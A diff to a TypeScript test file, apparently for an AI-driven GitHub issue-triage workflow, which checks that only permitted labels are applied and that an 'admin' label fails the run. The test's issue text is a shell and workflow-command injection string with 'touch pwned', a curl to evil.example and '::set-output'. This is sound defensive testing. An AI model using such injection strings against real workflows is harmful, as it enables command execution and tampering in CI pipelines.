@@ -99,16 +99,23 @@ test.concurrent("Azure is asked at the resource's address, with its key and its 
 });
 
 test.concurrent('triage puts on the labels that it may, whatever the issue and the answer say', async () => {
-  const said = { labels: ['bug', 'admin', 'question'] };
-  const rules = [{ when: /issue\.json/, steps: [{ run: 'cat issue.json' }, { say: JSON.stringify(said) }] }];
+  const answer = (labels: readonly string[]) => [{ run: 'cat issue.json' }, { say: JSON.stringify({ labels }) }];
+  let labels = ['bug', 'question'];
+  const rules = [{ when: /issue\.json/, steps: () => answer(labels) }];
   await using scene = await openScene({ callers: { 'triage.yml': await example('triage.yml') }, rules });
   const text = '"; echo $(touch pwned); `curl evil.example`\n::set-output name=x::y';
-  const issue = await scene.opens('stranger', text, text);
-  await scene.idle();
-  const { data } = await scene.as('owner').rest.issues.get({ ...scene.place, issue_number: issue });
-  expect(data.labels.map((label) => (typeof label === 'string' ? label : label.name))).toEqual(['bug', 'question']);
-  expect(await scene.replies(issue)).toEqual([]);
+  const labelled = async () => {
+    const issue = await scene.opens('stranger', text, text);
+    await scene.idle();
+    expect(await scene.replies(issue)).toEqual([]);
+    const { data } = await scene.as('owner').rest.issues.get({ ...scene.place, issue_number: issue });
+    return data.labels.map((label) => (typeof label === 'string' ? label : label.name));
+  };
+  expect(await labelled()).toEqual(['bug', 'question']);
   expect(scene.lastRun().conclusion).toBe('success');
+  labels = ['bug', 'admin'];
+  expect(await labelled()).toEqual([]);
+  expect(scene.lastRun().conclusion).toBe('failure');
 });
 
 test.concurrent('what fails the checks of a pipeline is not published, and what passes them is', async () => {
